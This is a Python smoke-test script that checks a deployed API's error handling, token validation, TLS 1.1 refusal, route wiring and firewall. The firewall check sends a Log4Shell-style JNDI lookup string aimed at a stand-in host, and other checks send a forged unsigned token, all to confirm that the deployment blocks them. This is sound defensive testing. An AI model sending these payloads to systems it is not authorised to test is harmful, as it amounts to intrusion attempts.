"""Asks a deployment what only a real one can answer: what `make smoke ENV=… STATE_BUCKET=…` calls.

Changes nothing. Which checks there are follows from the deployment's outputs: TLS 1.1 is tried where it has a domain
of its own, a known attack where it has a firewall. With BELLWETHER_EMAIL and BELLWETHER_PASSWORD it also signs in and
lists tests. Prints a line for each check, and ends with 1 if one fails.

    smoke.py --url https://…/v1 [--domain] [--firewall] [--networks]    a deployment whose state is not at hand
"""

import argparse
import collections
import os
import re
import ssl
import sys
import urllib.error
import urllib.request

from answers import HEADERS, Api, is_problem
from stack import ROOT, Stack, fail, run

try:
    import yaml
except ImportError:
    fail(f"yaml is not installed for {sys.executable}; run: make setup")

# What a deployment has of its own: a domain, a firewall that blocks, networks from which alone it is administered.
Has = collections.namedtuple("Has", "domain firewall networks", defaults=(False, False, False))
DISCOVERY = "/.well-known/oauth-authorization-server"  # 404 without a domain
ADMINISTRATIVE = ("/users", "/clients")  # what admin_networks closes to other networks


def checks(api, has):
    """Each check by its name, with what was wrong; None of one that is not for this deployment."""
    forged = {"authorization": "Bearer eyJhbGciOiJub25lIn0.e30."}
    yield "a path that is not there is 404", is_problem(api.ask("GET", "/nothing-here"), 404, "not_found")
    yield "so it is with a token", is_problem(api.ask("GET", "/nothing-here", headers=forged), 404, "not_found")
    yield "another method is 405", is_problem(api.ask("DELETE", "/tests"), 405, "method_not_allowed")
    yield "no token is 401", is_problem(api.ask("GET", "/tests"), 401, "unauthenticated")
    yield "a forged token is 401", is_problem(api.ask("GET", "/tests", headers=forged), 401, "invalid_token")
    yield "a body that is no object is 400", is_problem(api.ask("POST", "/login", [1]), 400, "malformed_body")
    stranger = {"email": "nobody@example.invalid", "password": "not a password of anybody"}
    yield "a stranger is 401", is_problem(api.ask("POST", "/login", stranger), 401, "wrong_credentials")
    yield "a slash at the end opens nothing", slash_at_the_end(api, stranger)
    status, _, keys = api.ask("GET", "/.well-known/jwks.json")
    yield "the public keys are there", [] if status == 200 and (keys or {}).get("keys") else [f"status {status}"]
    for method, path, open_to_all in routes():
        yield f"{method} {path} leads to its function", answers(api, method, path, open_to_all, has)
    yield "TLS 1.1 is refused", old_tls(api.url) if has.domain else None
    yield from firewalled(api, has.firewall)
    if os.environ.get("BELLWETHER_PASSWORD"):
        yield from signed_in(api)


def firewalled(api, firewall):
    """What the firewall answers; a body that is too long is refused without one too."""
    long, script = b'{"email": "' + b"a" * 70_000 + b'"}', "${jndi:ldap://example.invalid/a}"
    status, _, _ = api.ask("POST", "/login", long)
    yield "a body over 64 KB is refused", [] if status in (403, 413) else [f"status {status}"]
    name = "the firewall blocks a known attack"
    if not firewall:
        yield name, None
        return
    status, _, _ = api.ask("POST", "/login", {"email": script, "password": "x"}, {"user-agent": script})
    yield name, [] if status == 403 else [f"status {status}"]


def slash_at_the_end(api, stranger):
    """What differs from the route without it. API Gateway may know the path or not; nobody may get further by it."""
    wrong = []
    for method, path, body, kind, status in (
        ("POST", "/login/", stranger, "wrong_credentials", 401),
        ("GET", "/tests/", None, "unauthenticated", 401),
    ):
        answer = api.ask(method, path, body)
        known = is_problem(answer, status, kind)
        if known and is_problem(answer, 404, "not_found"):
            wrong += [f"{method} {path}: {each}" for each in known]
    return wrong


def routes():
    """Method, path and whether it is open to all, of every operation of openapi.yaml. Its parameters have a value."""
    contract = yaml.safe_load((ROOT / "openapi.yaml").read_text())
    for path, operations in contract["paths"].items():
        for method, operation in operations.items():
            if "operationId" in operation:
                yield method.upper(), re.sub(r"{\w+}", "smoke-test", path), operation.get("security") == []


def answers(api, method, path, open_to_all, has):
    """What an answer to a caller without a token lacks. Only a function answers so, not the gateway. None where the
    route administers, and this network may not."""
    answer = api.ask(method, path, None if method in ("GET", "DELETE") else {})
    if has.networks and answer[0] == 403 and path.startswith(ADMINISTRATIVE):
        return None
    if path == DISCOVERY and not has.domain:
        return is_problem(answer, 404, "not_found")
    if not open_to_all:
        return is_problem(answer, 401, "unauthenticated")
    status, headers, _ = answer
    wrong = [f"status {status}"] if status >= 500 or status in (403, 404, 405) else []
    name = "strict-transport-security"
    return wrong + ([f"header {name}: {headers.get(name)}"] if headers.get(name) != HEADERS[name] else [])


def old_tls(url):
    """A handshake of TLS 1.1 at most, which must not succeed."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_default_certs()
    context.set_ciphers("DEFAULT:@SECLEVEL=0")
    context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_1
    try:
        urllib.request.urlopen(url, timeout=10, context=context)
    except urllib.error.HTTPError:
        return ["it was taken"]
    except OSError:
        return []
    return ["it was taken"]


def signed_in(api):
    person = {"email": os.environ["BELLWETHER_EMAIL"], "password": os.environ["BELLWETHER_PASSWORD"]}
    status, _, body = api.ask("POST", "/login", person)
    yield "sign-in gives a token", [] if status == 200 and body.get("access_token") else [f"status {status}"]
    if status == 200:
        token = {"authorization": f"Bearer {body['access_token']}"}
        status, _, page = api.ask("GET", "/tests?limit=1", headers=token)
        yield "the token opens the list of tests", [] if status == 200 and "tests" in page else [f"status {status}"]


def main():
    parser = argparse.ArgumentParser(description="Ask a deployment what only a real one can answer.")
    parser.add_argument("--url", help="the API's URL with the stage, instead of that of Terraform's state")
    parser.add_argument("--domain", action="store_true", help="with --url: it has a domain of its own")
    parser.add_argument("--firewall", action="store_true", help="with --url: it has a firewall")
    parser.add_argument("--networks", action="store_true", help="with --url: it is administered from some networks only")
    options = parser.parse_args()
    url, has = options.url, Has(options.domain, options.firewall, options.networks)
    if not url:
        stack = Stack.of_terraform()
        url, has = stack.url, Has(stack.has_domain, stack.has_firewall, stack.has_networks)
    if not re.match("https?://", url):
        fail(f"{url} is no URL; it begins with https://")
    failed = 0
    for name, wrong in checks(Api(url), has):
        failed += bool(wrong)
        word = "not asked" if wrong is None else "FAILED" if wrong else "ok"
        print(f"{word:<9} {name}" + "".join(f"\n          {each}" for each in wrong or []), flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    run(main)
